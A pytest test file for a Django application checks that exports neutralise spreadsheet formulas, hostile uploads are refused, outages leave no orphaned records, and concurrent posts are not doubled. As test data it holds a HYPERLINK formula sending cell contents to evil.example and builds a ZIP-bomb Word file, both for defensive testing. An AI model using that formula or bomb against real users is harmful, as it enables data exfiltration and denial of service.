"""Hostile input and outages leave nothing broken: formula-safe exports, ZIP bombs and broken
Word files, a broker or mail server that is down, two clicks at once, and the small holes."""

import csv
import datetime
import io
import socket
import threading
import zipfile

import pytest
import time_machine
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from recommendations import sweeper
from recommendations.models import (
    DeadlineExtension,
    Delivery,
    DeliveryStatus,
    Feedback,
    Paper,
    PaperImport,
    ProgressUpdate,
    ReportJob,
    ResponseState,
)
from recommendations.once import new_token
from recommendations.reports.builder import build_report
from recommendations.reports.files import write
from tests import factories
from tests.recommendations.test_import_views import PAPER, posted_rows

pytestmark = pytest.mark.django_db

ON_POSTGRES = pytest.mark.skipif(
    connection.vendor != "postgresql", reason="row locks need a server database; CI runs this on PostgreSQL"
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def free_port():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


# 3. Exports never carry live formulas.


def test_csv_export_writes_formula_like_text_as_text(client, world):
    world.drafting.title_en = FORMULA
    world.drafting.save()
    client.force_login(world.users.secretariat)
    text = b"".join(client.get(reverse("recommendations:export", args=["csv"])).streaming_content).decode("utf-8-sig")
    rows = {row[0]: row for row in csv.reader(io.StringIO(text))}
    assert rows[world.drafting.reference][1] == "'" + FORMULA
    for start in ("+1", "-1", "@SUM(A1)", "\tcmd", "\rcmd"):
        world.drafting.title_en = start
        world.drafting.save()
        text = b"".join(client.get(reverse("recommendations:export", args=["csv"])).streaming_content)
        row = next(r for r in csv.reader(io.StringIO(text.decode("utf-8-sig"))) if r[0] == world.drafting.reference)
        assert row[1].startswith("'"), start


def test_xlsx_export_and_report_workbook_write_formula_like_text_as_strings(client, world):
    world.drafting.title_en = FORMULA
    world.drafting.save()
    world.published.title_en = FORMULA
    world.published.save()
    client.force_login(world.users.secretariat)
    workbook = load_workbook(
        io.BytesIO(b"".join(client.get(reverse("recommendations:export", args=["xlsx"])).streaming_content))
    )
    cells = [row[1] for row in workbook.active.iter_rows(min_row=2) if row[0].value == world.drafting.reference]
    assert (cells[0].value, cells[0].data_type) == (FORMULA, "s")
    output = io.BytesIO()
    write(build_report(world.paper_c.meeting), "xlsx", output)
    sheet = load_workbook(io.BytesIO(output.getvalue())).worksheets[1]
    (cell,) = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == world.published.reference]
    assert (cell.value, cell.data_type) == (FORMULA, "s")


# 4. Hostile files are refused before they are inflated.


def docx_bytes(document_xml, padding=0):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", document_xml)
        if padding:
            archive.writestr("word/media/padding.xml", b" " * padding)
    return buffer.getvalue()


BOMB = docx_bytes("<w:document/>", padding=30 * 1024 * 1024)  # 30 MB of spaces in about 30 KB


def test_a_zip_bomb_is_refused_as_evidence_before_it_is_inflated(client, world, settings):
    settings.MAX_UNZIPPED_SIZE = 10 * 1024 * 1024
    assert len(BOMB) < 100 * 1024
    client.force_login(world.users.officer_a)
    response = client.post(
        reverse("recommendations:log_progress", args=[world.drafting.reference]),
        {
            "form_token": new_token(),
            "status": "in_progress",
            "progress": "10",
            "note": "Keep this note",
            "visibility": "internal",
            "evidence": SimpleUploadedFile("bomb.docx", BOMB),
        },
    )
    assert response.status_code == 400
    assert "would unpack to more than 10.0\xa0MB" in response.content.decode()
    assert "Keep this note" in response.content.decode()
    assert not ProgressUpdate.objects.filter(recommendation=world.drafting).exists()


def test_a_highly_compressed_paper_is_refused_even_under_the_size_limit(client, world, settings):
    settings.MAX_ZIP_RATIO = 100  # 30 MB of spaces compress about 1000 times
    client.force_login(world.users.secretariat)
    response = client.post(
        reverse("paper_import_new"),
        {"meeting": world.paper_c.meeting.pk, "document": SimpleUploadedFile("paper.docx", BOMB)},
    )
    assert response.status_code == 200
    assert "compressed suspiciously much" in response.content.decode()
    assert not PaperImport.objects.exists()


def test_a_word_file_with_broken_xml_gets_a_message_not_an_error(client, world):
    broken = docx_bytes("<w:document><w:body><w:p>unclosed")
    client.force_login(world.users.secretariat)
    response = client.post(
        reverse("paper_import_new"),
        {"meeting": world.paper_c.meeting.pk, "document": SimpleUploadedFile("paper.docx", broken)},
    )
    assert response.status_code == 200
    assert "not a readable Word document" in response.content.decode()
    assert not PaperImport.objects.exists()


# 5. An outage leaves nothing orphaned.


@pytest.fixture
def broker_down(settings, monkeypatch):
    """Celery pointed at a port where no broker listens, as when Redis is down."""
    from ccec.celery import app

    nowhere = f"redis://127.0.0.1:{free_port()}/0"
    monkeypatch.setenv("CELERY_BROKER_URL", nowhere)  # Celery reads it before its own setting
    saved = {key: app.conf[key] for key in ("broker_url", "task_always_eager")}
    app.conf.update(broker_url=nowhere, task_always_eager=False)
    app._after_fork()  # drop connections pooled for the earlier broker
    settings.BROKER_CONFIGURED = True
    yield
    app.conf.update(saved)
    app._after_fork()


def test_report_job_with_the_broker_down_is_failed_with_a_retry_button(client, world, settings, broker_down):
    settings.REPORT_ASYNC_THRESHOLD = 0
    client.force_login(world.users.secretariat)
    response = client.get(reverse("report_download", args=[16, "xlsx"]), follow=True)
    assert response.status_code == 200
    job = ReportJob.objects.get()
    assert (job.status, job.error) == (ReportJob.Status.FAILED, ReportJob.BROKER_DOWN)
    page = response.content.decode()
    assert "The background service did not answer" in page
    assert reverse("report_job_retry", args=[job.pk]) in page
    assert 'http-equiv="refresh"' not in page


def test_large_paper_import_with_the_broker_down_is_failed_with_a_retry_button(client, world, settings, broker_down):
    settings.IMPORT_READ_AT_ONCE_BYTES = 10
    client.force_login(world.users.secretariat)
    response = client.post(
        reverse("paper_import_new"),
        {"meeting": world.paper_c.meeting.pk, "document": SimpleUploadedFile("paper.txt", PAPER.encode())},
        follow=True,
    )
    draft = PaperImport.objects.get()
    assert (draft.status, draft.error) == (PaperImport.Status.FAILED, PaperImport.BROKER_DOWN)
    assert reverse("paper_import_retry", args=[draft.pk]) in response.content.decode()


def test_clarification_with_the_broker_down_keeps_the_feedback_and_its_notices(
    client, world, broker_down, django_capture_on_commit_callbacks
):
    client.force_login(world.users.liaison_c)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("recommendations:feedback", args=[world.published.reference]),
            {"form_token": new_token(), "answer_satisfaction": "3", "requests_clarification": "on"},
        )
    assert response.status_code == 302
    assert Feedback.objects.filter(requests_clarification=True).count() == 1
    notices = Delivery.objects.filter(kind="clarification")
    assert notices.count() == 2  # the department's officer and head
    assert {notice.status for notice in notices} == {DeliveryStatus.PENDING}
    # Later, the sweeper finds them and queues them again.
    with time_machine.travel(timezone.now() + datetime.timedelta(minutes=20)):
        assert sorted(sweeper.stale_deliveries()) == sorted(notice.pk for notice in notices)


def test_invitation_with_the_broker_down_keeps_the_account_and_its_e_mail(client, world, broker_down):
    client.force_login(world.users.secretariat)
    response = client.post(
        reverse("invite"),
        {
            "email": "new.officer@example.org",
            "first_name": "Li",
            "last_name": "Ming",
            "role": "officer",
            "department": world.department_a.pk,
            "language": "zh-hans",
        },
        follow=True,
    )
    assert response.status_code == 200
    assert "the invitation will go out as soon as it is back" in response.content.decode()
    (invitation,) = Delivery.objects.filter(kind="invitation")
    assert (invitation.email, invitation.status) == ("new.officer@example.org", DeliveryStatus.PENDING)


def test_invitation_when_the_mail_server_is_down_is_logged_not_a_500(client, world, settings):
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT = "127.0.0.1", free_port()
    settings.REMINDER_RETRY_BACKOFF = 0
    client.force_login(world.users.secretariat)
    response = client.post(
        reverse("invite"),
        {
            "email": "liaison@example.org",
            "first_name": "Anna",
            "last_name": "Berg",
            "role": "liaison",
            "company": world.company_c.pk,
            "language": "en",
        },
    )
    assert response.status_code == 302
    invitation = Delivery.objects.get(kind="invitation")
    assert invitation.status == DeliveryStatus.FAILED and "ConnectionRefusedError" in invitation.last_error


def test_password_reset_with_the_broker_down_says_so_for_any_address(client, world, broker_down):
    for email in (world.users.officer_a.email, "nobody@example.org"):
        response = client.post(reverse("password_reset"), {"email": email})
        assert response.status_code == 200
        assert "could not be sent just now" in response.content.decode()


def test_admin_resend_with_the_broker_down_is_no_error(client, world, broker_down):
    delivery = Delivery.objects.create(
        recipient=world.users.officer_a,
        email="x@example.org",
        day=datetime.date(2026, 11, 29),
        kind="reminders",
        status=DeliveryStatus.FAILED,
    )
    client.force_login(world.users.secretariat)
    response = client.post(
        reverse("admin:recommendations_delivery_changelist"),
        {"action": "resend", "_selected_action": [delivery.pk]},
    )
    assert response.status_code == 302
    delivery.refresh_from_db()
    assert delivery.status == DeliveryStatus.PENDING


def test_a_job_that_stopped_moving_is_shown_as_failed(client, world):
    client.force_login(world.users.secretariat)
    job = ReportJob.objects.create(
        requested_by=world.users.secretariat, meeting=world.paper_c.meeting, file_format="pdf", language="en"
    )
    assert 'http-equiv="refresh"' in client.get(job.get_absolute_url()).content.decode()
    with time_machine.travel(timezone.now() + datetime.timedelta(minutes=30)):
        page = client.get(job.get_absolute_url()).content.decode()
    job.refresh_from_db()
    assert (job.status, job.error) == (ReportJob.Status.FAILED, ReportJob.STALLED)
    assert "The work stopped without finishing" in page and 'http-equiv="refresh"' not in page
    # Trying again runs it (tasks run in the test's process) and it is ready.
    client.post(reverse("report_job_retry", args=[job.pk]))
    job.refresh_from_db()
    assert job.status == ReportJob.Status.DONE


def test_the_sweeper_fails_stalled_imports_and_jobs(world):
    draft = PaperImport.objects.create(
        meeting=world.paper_c.meeting,
        uploaded_by=world.users.secretariat,
        document=ContentFile(b"x", name="p.txt"),
    )
    with time_machine.travel(timezone.now() + datetime.timedelta(minutes=30)):
        assert sweeper.fail_stalled_jobs() == 1
    draft.refresh_from_db()
    assert draft.status == PaperImport.Status.FAILED and draft.can_retry


# 6. Concurrent work is never lost or doubled.


def test_the_same_progress_post_twice_makes_one_update(client, world):
    client.force_login(world.users.officer_a)
    data = {"form_token": new_token(), "status": "in_progress", "progress": "20", "note": "x", "visibility": "shared"}
    url = reverse("recommendations:log_progress", args=[world.drafting.reference])
    first, second = client.post(url, data), client.post(url, data, follow=True)
    assert first.status_code == 302
    assert "it was saved once, not twice" in second.content.decode()
    assert ProgressUpdate.objects.filter(recommendation=world.drafting).count() == 1


def test_a_post_without_its_token_changes_nothing(client, world):
    client.force_login(world.users.officer_a)
    url = reverse("recommendations:log_progress", args=[world.drafting.reference])
    response = client.post(url, {"status": "in_progress", "progress": "20", "note": "x", "visibility": "shared"})
    assert response.status_code == 302
    assert not ProgressUpdate.objects.filter(recommendation=world.drafting).exists()


def test_a_form_with_errors_can_be_sent_again_with_its_token(client, world):
    client.force_login(world.users.officer_a)
    url = reverse("recommendations:log_progress", args=[world.drafting.reference])
    data = {"form_token": new_token(), "status": "in_progress", "progress": "140", "note": "x", "visibility": "shared"}
    assert client.post(url, data).status_code == 400
    assert client.post(url, {**data, "progress": "40"}).status_code == 302
    assert ProgressUpdate.objects.filter(recommendation=world.drafting).count() == 1


def test_two_editors_of_one_draft_see_a_conflict_with_both_texts(client, world):
    factories.ResponseFactory(recommendation=world.drafting, department=world.department_a, text_en="First")
    url = reverse("recommendations:save_response", args=[world.drafting.reference])
    opened = world.drafting.response.version  # both officers open the page at this version
    colleague = factories.OfficerFactory(department=world.department_a).user
    other = Client()
    other.force_login(colleague)
    saved = other.post(
        url, {"form_token": new_token(), "version": opened, "stance": "accepted", "text": "Colleague's text"}
    )
    assert saved.status_code == 302
    client.force_login(world.users.officer_a)
    conflict = client.post(url, {"form_token": new_token(), "version": opened, "stance": "noted", "text": "Mine"})
    assert conflict.status_code == 409
    page = conflict.content.decode()
    assert "Colleague&#x27;s text" in page and "Mine" in page
    world.drafting.response.refresh_from_db()
    assert world.drafting.response.text_en == "Colleague's text"
    # The form now carries the current version: the merged text goes through.
    merged = client.post(
        url,
        {"form_token": new_token(), "version": conflict.context["response_form"]["version"].value(), "text": "Both"}
        | {"stance": "accepted"},
    )
    assert merged.status_code == 302
    world.drafting.response.refresh_from_db()
    assert world.drafting.response.text_en == "Both"


def at_once(count, post):
    """Run `post(index)` in `count` threads released together; returns their results."""
    start = threading.Barrier(count)
    results, errors = [None] * count, []

    def run(index):
        try:
            start.wait()
            results[index] = post(index)
        except Exception as exc:
            errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=run, args=(index,)) for index in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert errors == []
    return results


def logged_in(user):
    client = Client()
    client.force_login(user)
    return client


@ON_POSTGRES
@pytest.mark.django_db(transaction=True)
def test_four_confirms_of_one_import_create_one_paper(world):
    client = logged_in(world.users.secretariat)
    client.post(
        reverse("paper_import_new"),
        {"meeting": world.paper_c.meeting.pk, "document": SimpleUploadedFile("paper.txt", PAPER.encode())},
    )
    draft = PaperImport.objects.get()
    data = {**posted_rows(draft), "confirm": "1"}
    clients = [logged_in(world.users.secretariat) for _ in range(4)]
    statuses = at_once(4, lambda index: clients[index].post(draft.get_absolute_url(), data).status_code)
    assert statuses == [302] * 4
    assert Paper.objects.filter(import_record=draft).count() == 1
    assert Paper.objects.count() == 3  # world's two and this one


@ON_POSTGRES
@pytest.mark.django_db(transaction=True)
def test_publish_and_send_back_at_once_give_one_decision(world):
    url = reverse("recommendations:sign_off", args=[world.awaiting.reference])
    head, secretariat = logged_in(world.users.head_a), logged_in(world.users.secretariat)
    posts = [
        lambda: secretariat.post(url, {"form_token": new_token(), "decision": "publish"}, follow=True),
        lambda: head.post(url, {"form_token": new_token(), "decision": "send_back", "comment": "No."}, follow=True),
    ]
    pages = at_once(2, lambda index: posts[index]().content.decode())
    succeeded = ["Response published." in pages[0], "Response sent back to the officer." in pages[1]]
    assert succeeded.count(True) == 1, "both decisions reported success"
    response = world.awaiting.response.__class__.objects.get(recommendation=world.awaiting)
    assert response.state == (ResponseState.PUBLISHED if succeeded[0] else ResponseState.DRAFT)
    refused = pages[1] if succeeded[0] else pages[0]
    assert "someone has decided on it already" in refused


@ON_POSTGRES
@pytest.mark.django_db(transaction=True)
def test_four_extension_requests_at_once_make_one_and_no_error(world):
    url = reverse("recommendations:request_extension", args=[world.drafting.reference])
    clients = [logged_in(world.users.officer_a) for _ in range(4)]
    statuses = at_once(
        4,
        lambda index: (
            clients[index]
            .post(url, {"form_token": new_token(), "requested_date": "2027-06-30", "reason": f"Reason {index}"})
            .status_code
        ),
    )
    assert statuses == [302] * 4
    assert DeadlineExtension.objects.filter(recommendation=world.drafting).count() == 1


@ON_POSTGRES
@pytest.mark.django_db(transaction=True)
def test_the_same_progress_post_twice_at_once_makes_one_update(world):
    data = {"form_token": new_token(), "status": "in_progress", "progress": "20", "note": "x", "visibility": "shared"}
    url = reverse("recommendations:log_progress", args=[world.drafting.reference])
    clients = [logged_in(world.users.officer_a) for _ in range(2)]
    assert at_once(2, lambda index: clients[index].post(url, data).status_code) == [302, 302]
    assert ProgressUpdate.objects.filter(recommendation=world.drafting).count() == 1


@ON_POSTGRES
@pytest.mark.django_db(transaction=True)
def test_two_updates_logged_at_once_leave_the_latest_status(world):
    url = reverse("recommendations:log_progress", args=[world.drafting.reference])
    clients = [logged_in(world.users.officer_a) for _ in range(2)]
    at_once(
        2,
        lambda index: clients[index].post(
            url,
            {
                "form_token": new_token(),
                "status": "in_progress",
                "progress": str(10 * (index + 1)),
                "note": "x",
                "visibility": "shared",
            },
        ),
    )
    world.drafting.refresh_from_db()
    assert ProgressUpdate.objects.filter(recommendation=world.drafting).count() == 2
    latest = ProgressUpdate.objects.filter(recommendation=world.drafting).order_by("-date", "-created_at").first()
    assert (world.drafting.progress, world.drafting.shared_progress) == (latest.progress, latest.progress)


# 7. Small holes.


@pytest.mark.parametrize(
    "path", ["/recommendations/%00/", "/recommendations/16-01-01%00/", "/recommendations/" + "9" * 40 + "/"]
)
def test_a_reference_that_cannot_exist_is_a_404(client, world, path):
    client.force_login(world.users.secretariat)
    assert client.get(path).status_code == 404


def test_a_very_long_user_name_at_login_is_a_form_error(client, db):
    response = client.post(reverse("login"), {"username": "x" * 256, "password": "y"})
    assert response.status_code == 200
    assert "A user name has at most 150 characters." in response.content.decode()


def test_pages_carry_a_content_security_policy(client, world):
    client.force_login(world.users.officer_a)
    policy = client.get(reverse("workspace"))["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "script-src 'self'" in policy and "object-src 'none'" in policy
    assert "unsafe-inline" not in policy


def test_signed_in_pages_and_downloads_are_not_cached(client, world):
    client.force_login(world.users.liaison_c)
    for url in (
        reverse("portal"),
        world.published.get_absolute_url(),
        reverse("recommendations:export", args=["csv"]),
        reverse("evidence", args=[world.shared_update.pk]),
    ):
        cache_control = client.get(url)["Cache-Control"]
        assert "private" in cache_control and "no-store" in cache_control, url
